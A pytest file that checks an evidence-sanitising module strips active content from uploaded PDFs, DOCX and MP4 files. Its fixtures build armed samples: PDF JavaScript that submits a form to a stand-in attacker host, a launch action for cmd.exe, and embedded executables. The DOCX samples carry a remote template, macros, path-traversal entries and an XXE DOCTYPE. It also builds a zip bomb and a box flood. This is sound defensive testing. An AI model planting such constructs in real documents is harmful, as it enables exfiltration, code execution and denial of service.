"""A file of evidence shows and does nothing else: PDFs and DOCX that would act, and films made to tire the machine."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText, Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from complaints.evidence import disarming, kinds
from complaints.evidence.kinds import WrongFile
from complaints.evidence.stripping import MOST_BOXES, strip

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def action(kind: str, **more: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for name, value in more.items():
        made[NameObject(f"/{name}")] = TextStringObject(value)
    return made


def armed_pdf() -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    page = writer.add_blank_page(200, 200)
    writer.root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert('opened')")
    writer.add_attachment("evil.exe", b"MZ")
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.alert(1)")})
    writer.add_annotation(0, FreeText(text="批注留下", rect=(10, 10, 90, 30)))
    writer.add_annotation(0, Link(rect=(10, 40, 90, 60), url="https://example.com/"))
    for kind, more in (
        ("/Launch", {"F": "cmd.exe"}),
        ("/JavaScript", {"JS": "this.submitForm('http://evil.example')"}),
    ):
        note = Link(rect=(10, 70, 90, 90), url="https://evil.example/")
        note[NameObject("/A")] = action(kind, **more)
        writer.add_annotation(0, note)
    attached = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject(), NameObject("/FS"): TextStringObject("secret.exe"),
    })  # fmt: skip
    page[NameObject("/Annots")].append(writer._add_object(attached))
    writer.write(out)
    return out.getvalue()


def test_a_pdf_neither_runs_nor_launches_nor_carries(tmp_path: Path) -> None:
    file = tmp_path / "a.pdf"
    file.write_bytes(armed_pdf())
    for dangerous in (b"/JavaScript", b"/Launch", b"/FileAttachment", b"/EmbeddedFile"):
        assert dangerous in file.read_bytes(), "else the test shows nothing"
    strip(kinds.PDF, file)
    content = file.read_bytes()
    for dangerous in (b"JavaScript", b"Launch", b"FileAttachment", b"EmbeddedFile", b"evil", b"cmd.exe", b"/AA", b"MZ"):
        assert dangerous not in content, dangerous
    page = PdfReader(io.BytesIO(content)).pages[0]
    subtypes = [note.get_object()["/Subtype"] for note in page["/Annots"]]
    assert subtypes.count("/FreeText") == 1
    links = [note.get_object().get("/A", {}).get("/URI") for note in page["/Annots"]]
    assert "https://example.com/" in links


def archive(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def relations(*lines: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(lines)}</Relationships>'


def relation(kind: str, target: str, mode: str = "") -> str:
    external = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r{abs(hash(target)) % 999}" Type="{OFFICE}/{kind}" Target="{target}"{external}/>'


ARMED = {
    "[Content_Types].xml": "<Types/>",
    "_rels/.rels": relations(relation("officeDocument", "word/document.xml")),
    "word/document.xml": "<w/>",
    "word/media/image1.png": b"\x89PNG",
    "word/vbaProject.bin": b"macro",
    "word/embeddings/oleObject1.bin": b"ole",
    "word/embeddings/sheet.xlsx": b"PK",
    "word/activeX/activeX1.bin": b"x",
    "word/afchunk.html": b"<script>",
    "../../evil.xml": b"<x/>",
    "/etc/evil.xml": b"<x/>",
    "word/_rels/settings.xml.rels": relations(
        relation("attachedTemplate", "https://evil.example/t.dotm", "External"),
        relation("image", "https://evil.example/pixel.png", "external"),
        relation("hyperlink", "https://example.com/shop", "External"),
        relation("hyperlink", "file:///c:/x", "External"),
        relation("oleObject", "embeddings/oleObject1.bin"),
        relation("aFChunk", "afchunk.xml"),
        relation("image", "media/image1.png"),
    ),
}


def test_a_docx_holds_what_is_shown_and_fetches_nothing(tmp_path: Path) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(archive(ARMED))
    strip(kinds.DOCX, file)
    with zipfile.ZipFile(file) as found:
        assert set(found.namelist()) == {
            "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/media/image1.png",
            "word/_rels/settings.xml.rels",
        }  # fmt: skip
        left = found.read("word/_rels/settings.xml.rels").decode()
    assert "evil" not in left
    assert "file:" not in left
    assert "embeddings" not in left
    assert "https://example.com/shop" in left
    assert "media/image1.png" in left


@pytest.mark.parametrize(
    "content",
    [
        '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><Relationships/>'.encode("utf-16").decode("utf-16"),
        "<Relationships>",
        "no xml",
    ],
)
def test_relations_that_are_none_are_refused(content: str, tmp_path: Path) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(archive({"[Content_Types].xml": "<Types/>", "_rels/.rels": content}))
    with pytest.raises(WrongFile):
        strip(kinds.DOCX, file)


def test_other_encodings_hide_nothing() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + relations(
        relation("attachedTemplate", "https://evil.example/t.dotm", "External")
    )
    assert b"evil" not in disarming.relations(text.encode("utf-16"))


def test_too_many_parts(tmp_path: Path) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(archive({f"word/{at}.xml": "" for at in range(disarming.MOST_PARTS + 1)}))
    with pytest.raises(WrongFile):
        strip(kinds.DOCX, file)


def test_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    file = tmp_path / "a.docx"
    file.write_bytes(archive({"word/document.xml": b"\0" * (10 * kinds.DOCX.most_bytes + 1)}))
    assert file.stat().st_size < 1_000_000
    with pytest.raises(WrongFile):
        strip(kinds.DOCX, file)


def test_a_film_of_a_million_empty_boxes_is_put_aside_soon(tmp_path: Path) -> None:
    file = tmp_path / "a.mp4"
    file.write_bytes(b"\0\0\0\x10ftypisom\0\0\0\0" + b"\0\0\0\x08free" * 1_000_000)
    began = time.monotonic()
    with pytest.raises(WrongFile):
        strip(kinds.MP4, file)
    assert time.monotonic() - began < 5
    assert MOST_BOXES < 1_000_000


@given(st.binary(max_size=400))
def test_no_relations_are_a_fault(content: bytes) -> None:
    try:
        disarming.relations(content)
    except ValueError:
        pass
